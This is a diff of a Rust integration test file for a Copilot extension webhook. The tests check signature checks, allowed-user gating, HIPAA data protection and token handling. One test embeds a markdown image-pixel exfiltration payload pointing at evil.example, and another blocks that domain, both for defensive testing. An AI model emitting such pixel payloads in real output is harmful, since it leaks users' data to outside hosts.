@@ -7,20 +7,24 @@
 //! route at all (404).
 
 mod copilot_support;
+mod llm_support;
 mod mcp_support;
 
 use std::path::Path;
 
-use copilot_support::{FakeKeys, USER_TOKEN, ask, frames, key, post, request_body, sign, text_of};
+use copilot_support::{
+    FakeKeys, OPERATOR_LOGIN, STRANGER_TOKEN, USER_TOKEN, ask, frames, key, post, request_body,
+    sign, text_of,
+};
 use mcp_support::Server;
 use serde_json::Value;
 
-fn config(keys_url: &str, extra: &str) -> String {
+fn config(fake: &FakeKeys, extra: &str) -> String {
     format!(
         r#"
 [copilot_extension]
 enabled = true
-keys_url = "{keys_url}"
+{}
 {extra}
 
 [profiles.clinic]
@@ -31,7 +35,8 @@ phi_names = ["Margaret Okafor"]
 
 [profiles.deals]
 sources = ["spool"]
-"#
+"#,
+        fake.config_lines()
     )
 }
 
@@ -77,7 +82,7 @@ fn without_the_section_there_is_no_route() {
 fn a_valid_signature_streams_ack_text_done_and_is_audited_once() {
     let k = key(1);
     let fake = FakeKeys::start(&[("k1", &k)]);
-    let server = Server::start(&[], Some(&config(&fake.url, "")));
+    let server = Server::start(&[], Some(&config(&fake, "")));
     let r = ask(&server, &k, "k1", "What is the status?");
     assert_eq!(r.status, 200, "{}\n{}", r.head, r.body);
     assert!(
@@ -115,7 +120,7 @@ fn bad_missing_and_unknown_signatures_get_401_and_are_audited_without_the_body()
     let k = key(1);
     let stranger = key(9);
     let fake = FakeKeys::start(&[("k1", &k)]);
-    let server = Server::start(&[], Some(&config(&fake.url, "")));
+    let server = Server::start(&[], Some(&config(&fake, "")));
     let canary = "CANARY-BODY-7f3a1c";
     let body = request_body(&format!("status {canary}"));
     let good_sig = sign(&k, &body);
@@ -200,10 +205,7 @@ fn an_unknown_key_id_fetches_the_list_once_and_a_retired_key_is_refused() {
     let a = key(1);
     let b = key(2);
     let fake = FakeKeys::start(&[("a", &a)]);
-    let server = Server::start(
-        &[],
-        Some(&config(&fake.url, "keys_refresh_min_secs = 3600")),
-    );
+    let server = Server::start(&[], Some(&config(&fake, "keys_refresh_min_secs = 3600")));
     assert_eq!(ask(&server, &a, "a", "status").status, 200);
     assert_eq!(fake.hits(), 1);
     // GitHub rotates: b is published; the first request signed by b fetches the list once.
@@ -228,7 +230,7 @@ fn an_expired_key_is_refused_once_the_cache_time_is_over() {
     let b = key(2);
     let fake = FakeKeys::start(&[("a", &a)]);
     // keys_cache_secs = 0: every request asks GitHub again.
-    let server = Server::start(&[], Some(&config(&fake.url, "keys_cache_secs = 0")));
+    let server = Server::start(&[], Some(&config(&fake, "keys_cache_secs = 0")));
     assert_eq!(ask(&server, &a, "a", "status").status, 200);
     fake.publish(&[("b", &b)]);
     let r = ask(&server, &a, "a", "status");
@@ -244,7 +246,7 @@ fn repeated_bad_signatures_are_rate_limited_like_bad_tokens() {
         &[],
         Some(&format!(
             "[server]\nauth_failures_burst = 2\nmax_body_bytes = 4096\n{}",
-            config(&fake.url, "")
+            config(&fake, "")
         )),
     );
     let body = request_body("status");
@@ -305,7 +307,7 @@ fn a_body_over_the_limit_is_refused_before_anything_else() {
         &[],
         Some(&format!(
             "[server]\nmax_body_bytes = 4096\n{}",
-            config(&fake.url, "")
+            config(&fake, "")
         )),
     );
     let r = ask(&server, &k, "k1", &"x".repeat(5000));
@@ -339,7 +341,7 @@ const PHI: &[&str] = &[
 fn phi_of_a_hipaa_profile_never_reaches_copilot() {
     let k = key(1);
     let fake = FakeKeys::start(&[("k1", &k)]);
-    let server = Server::start(&[], Some(&config(&fake.url, "")));
+    let server = Server::start(&[], Some(&config(&fake, "")));
     add_clinic_fixture(&server);
     // A draft the operator wrote for the clinic, naming the patient.
     let o = server.cli(&[
@@ -423,7 +425,7 @@ fn phi_of_a_hipaa_profile_never_reaches_copilot() {
 fn a_draft_request_queues_a_pending_draft_and_sends_nothing() {
     let k = key(1);
     let fake = FakeKeys::start(&[("k1", &k)]);
-    let server = Server::start(&[], Some(&config(&fake.url, "")));
+    let server = Server::start(&[], Some(&config(&fake, "")));
     let r = ask(
         &server,
         &k,
@@ -482,7 +484,7 @@ fn a_draft_request_queues_a_pending_draft_and_sends_nothing() {
 fn an_unclear_profile_is_asked_for_not_guessed() {
     let k = key(1);
     let fake = FakeKeys::start(&[("k1", &k)]);
-    let server = Server::start(&[], Some(&config(&fake.url, "")));
+    let server = Server::start(&[], Some(&config(&fake, "")));
     let r = ask(&server, &k, "k1", "morning brief please");
     assert_eq!(r.status, 200);
     let text = text_of(&r.body);
@@ -494,7 +496,7 @@ fn an_unclear_profile_is_asked_for_not_guessed() {
 fn a_verified_request_that_is_not_a_copilot_request_is_400() {
     let k = key(1);
     let fake = FakeKeys::start(&[("k1", &k)]);
-    let server = Server::start(&[], Some(&config(&fake.url, "")));
+    let server = Server::start(&[], Some(&config(&fake, "")));
     let body = "{\"not\":\"messages\"}";
     let sig = sign(&k, body);
     let r = post(
@@ -502,6 +504,7 @@ fn a_verified_request_that_is_not_a_copilot_request_is_400() {
         &[
             ("Github-Public-Key-Identifier", "k1"),
             ("Github-Public-Key-Signature", &sig),
+            ("X-GitHub-Token", USER_TOKEN),
         ],
         body,
     );
@@ -513,7 +516,7 @@ fn a_verified_request_that_is_not_a_copilot_request_is_400() {
 fn hostile_markdown_in_a_message_stays_inside_its_code_block() {
     let k = key(1);
     let fake = FakeKeys::start(&[("k1", &k)]);
-    let server = Server::start(&[], Some(&config(&fake.url, "")));
+    let server = Server::start(&[], Some(&config(&fake, "")));
     let hostile =
         "Re: ```` ![pixel](https://evil.example/leak?d=inbox) [click](https://evil.example)";
     let o = server.cli(&[
@@ -592,7 +595,7 @@ fn measure() {
         &[],
         Some(&format!(
             "[server]\nrate_limit_per_sec = 1000\nrate_limit_burst = 10000\nauth_failures_burst = 10000\n{}",
-            config(&fake.url, "")
+            config(&fake, "")
         )),
     );
     let body = request_body("status");
@@ -631,7 +634,7 @@ fn a_governance_block_comes_back_as_an_error_with_rule_reason_and_remedy() {
         &[],
         Some(&format!(
             "[hard_bans]\nblocked_recipient_domains = [\"evil.example\"]\n{}",
-            config(&fake.url, "")
+            config(&fake, "")
         )),
     );
     let r = ask(
@@ -661,4 +664,238 @@ fn a_governance_block_comes_back_as_an_error_with_rule_reason_and_remedy() {
     assert_eq!(drafts.as_array().map(Vec::len), Some(0), "{drafts}");
     let audit = webhook_audit(&server);
     assert_eq!(audit.last().unwrap()["outcome"], "blocked", "{audit:?}");
+}
+
+/// A signed request for `text` carrying `token` as X-GitHub-Token (or none).
+fn ask_as(
+    server: &Server,
+    k: &p256::ecdsa::SigningKey,
+    token: Option<&str>,
+    text: &str,
+) -> copilot_support::Resp {
+    let body = request_body(text);
+    let sig = sign(k, &body);
+    let mut h = vec![
+        ("Github-Public-Key-Identifier", "k1"),
+        ("Github-Public-Key-Signature", sig.as_str()),
+    ];
+    if let Some(t) = token {
+        h.push(("X-GitHub-Token", t));
+    }
+    post(server, &h, &body)
+}
+
+#[test]
+fn only_the_allowed_github_users_are_answered() {
+    let k = key(1);
+    let fake = FakeKeys::start(&[("k1", &k)]);
+    let server = Server::start(&[], Some(&config(&fake, "")));
+    // The operator (login compared without case) is answered.
+    let r = ask_as(&server, &k, Some(USER_TOKEN), "status");
+    assert_eq!(r.status, 200, "{}", r.body);
+    // No token: 401. A token GitHub refuses: 401. Another GitHub user: 403.
+    let r = ask_as(&server, &k, None, "status");
+    assert_eq!(r.status, 401, "{}", r.body);
+    assert!(r.body.contains("missing_user_token"), "{}", r.body);
+    let r = ask_as(&server, &k, Some("ghu_revokedRevokedRevoked0000"), "status");
+    assert_eq!(r.status, 401, "{}", r.body);
+    assert!(r.body.contains("user_token_refused"), "{}", r.body);
+    let r = ask_as(
+        &server,
+        &k,
+        Some(STRANGER_TOKEN),
+        "draft an email to a@contoso.com subject: x body: y for deals",
+    );
+    assert_eq!(r.status, 403, "{}", r.body);
+    assert!(
+        r.body.contains("user_not_allowed") && r.body.contains("mallory"),
+        "{}",
+        r.body
+    );
+    // The stranger's request did nothing.
+    let o = server.cli(&["--json", "drafts", "list", "--all"]);
+    assert_eq!(String::from_utf8_lossy(&o.stdout).trim(), "[]");
+    // Each is audited, with the login and never a token.
+    let audit = webhook_audit(&server);
+    assert_eq!(audit.len(), 4, "{audit:?}");
+    assert_eq!(audit[0]["outcome"], "ok");
+    assert!(
+        audit[0]["reason"]
+            .as_str()
+            .unwrap()
+            .contains(&format!("github user {OPERATOR_LOGIN}")),
+        "{audit:?}"
+    );
+    for (rec, code) in audit[1..].iter().zip([
+        "no X-GitHub-Token",
+        "refused the user token",
+        "`mallory` is not in",
+    ]) {
+        assert_eq!(rec["outcome"], "denied", "{rec}");
+        assert!(rec["reason"].as_str().unwrap().contains(code), "{rec}");
+    }
+    for t in [USER_TOKEN, STRANGER_TOKEN] {
+        assert!(found_in_files(&server.data_dir, t).is_empty());
+    }
+}
+
+#[test]
+fn enabling_the_webhook_without_allowed_users_is_a_config_error() {
+    let tmp = tempfile::tempdir().unwrap();
+    let cfg = tmp.path().join("config.toml");
+    std::fs::write(
+        &cfg,
+        "[copilot_extension]\nenabled = true\n[profiles.deals]\nsources = [\"spool\"]\n",
+    )
+    .unwrap();
+    let o = std::process::Command::new(env!("CARGO_BIN_EXE_opsdesk"))
+        .arg("--data-dir")
+        .arg(tmp.path().join("data"))
+        .arg("--config")
+        .arg(&cfg)
+        .args(["config", "check"])
+        .output()
+        .unwrap();
+    assert!(!o.status.success());
+    let err = String::from_utf8_lossy(&o.stderr);
+    assert!(err.contains("copilot_extension.allowed_users"), "{err}");
+}
+
+/// The Copilot LLM (documented OpenAI-compatible chat completions) and, beside it, an OpenAI
+/// provider the job prefers, both faked on one loopback server.
+fn llm_config(fake: &FakeKeys, llm: &str) -> String {
+    config(
+        fake,
+        &format!(
+            r#"
+[llm]
+default = "copilot"
+[llm.jobs]
+intent = "oa"
+[llm.providers.copilot]
+kind = "copilot"
+enabled = true
+endpoint = "{llm}/copilot"
+model = "gpt-4.1"
+auth_env = "OPSDESK_TEST_UNSET_GITHUB_TOKEN"
+token_endpoint = "{llm}/copilot_internal/v2/token"
+[llm.providers.oa]
+kind = "openai"
+enabled = true
+endpoint = "{llm}/oa"
+model = "gpt-4o-mini"
+auth_env = "OPSDESK_TEST_UNSET_OPENAI_KEY"
+
+[profiles.sales]
+sources = ["spool"]
+"#
+        ),
+    )
+}
+
+#[test]
+fn an_unclear_request_is_read_by_the_copilot_llm_with_the_users_own_token_which_goes_nowhere_else()
+{
+    let rt = tokio::runtime::Runtime::new().unwrap();
+    let llm = rt.block_on(llm_support::Fake::start());
+    llm.script(
+        "/copilot/chat/completions",
+        vec![llm_support::answer(&["mail", "_list"], 40, 2)],
+    );
+    let k = key(1);
+    let fake = FakeKeys::start(&[("k1", &k)]);
+    let server = Server::start(&[], Some(&llm_config(&fake, &llm.url)));
+    let o = server.cli(&[
+        "inbox",
+        "add",
+        "--profile",
+        "sales",
+        "--channel",
+        "email",
+        "--from",
+        "ann@fabrikam.com",
+        "--subject",
+        "Sunrise term sheet",
+        "--body",
+        "Numbers attached.",
+    ]);
+    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
+
+    // No pattern matches this: the Copilot LLM names the intent, opsdesk runs it.
+    let r = ask_as(
+        &server,
+        &k,
+        Some(USER_TOKEN),
+        "anything new from Ann for sales?",
+    );
+    assert_eq!(r.status, 200, "{}", r.body);
+    let text = text_of(&r.body);
+    assert!(
+        text.contains("Inbox: sales") && text.contains("Sunrise term sheet"),
+        "{text}"
+    );
+
+    // One chat-completions call, to the Copilot provider, with the user's token as its bearer
+    // and no exchange; the OpenAI provider the job prefers was skipped for this call.
+    let reqs = llm.requests();
+    assert_eq!(
+        reqs.len(),
+        1,
+        "{:?}",
+        reqs.iter().map(|r| &r.path).collect::<Vec<_>>()
+    );
+    assert_eq!(reqs[0].path, "/copilot/chat/completions");
+    assert_eq!(
+        reqs[0].headers["authorization"].to_str().unwrap(),
+        format!("Bearer {USER_TOKEN}")
+    );
+    let sent: Value = serde_json::from_str(&reqs[0].body).unwrap();
+    assert_eq!(sent["model"], "gpt-4.1");
+    assert!(
+        sent.to_string()
+            .contains("anything new from Ann for sales?")
+    );
+    // The token went to GitHub's /user and that LLM call, nowhere else: not to the keys
+    // endpoint, not into any file of the data dir (audit, inbox, logs, usage ledger).
+    for head in fake.heads() {
+        assert_eq!(
+            head.contains(USER_TOKEN),
+            head.starts_with("GET /user "),
+            "{head}"
+        );
+    }
+    assert!(found_in_files(&server.data_dir, USER_TOKEN).is_empty());
+    let audit = webhook_audit(&server);
+    assert_eq!(audit.last().unwrap()["tool"], "mail_list", "{audit:?}");
+    assert!(
+        audit.last().unwrap()["reason"]
+            .as_str()
+            .unwrap()
+            .contains("intent from the Copilot LLM (copilot)"),
+        "{audit:?}"
+    );
+    let o = server.cli(&["--json", "audit", "tail", "-n", "200"]);
+    let trail = String::from_utf8_lossy(&o.stdout);
+    assert!(
+        trail.contains("llm.skip") && trail.contains("goes to no other kind"),
+        "{trail}"
+    );
+
+    // A HIPAA profile's unclear request is not sent to Copilot at all.
+    let r = ask_as(
+        &server,
+        &k,
+        Some(USER_TOKEN),
+        "anything new from Margaret for clinic?",
+    );
+    assert_eq!(r.status, 200, "{}", r.body);
+    let kinds: Vec<String> = frames(&r.body).into_iter().map(|(e, _)| e).collect();
+    assert!(kinds.iter().any(|e| e == "copilot_errors"), "{kinds:?}");
+    assert!(
+        text_of(&r.body).contains("GitHub Copilot has no BAA"),
+        "{}",
+        r.body
+    );
+    assert_eq!(llm.requests().len(), 1, "no second LLM call");
+    assert_eq!(webhook_audit(&server).last().unwrap()["outcome"], "blocked");
 }
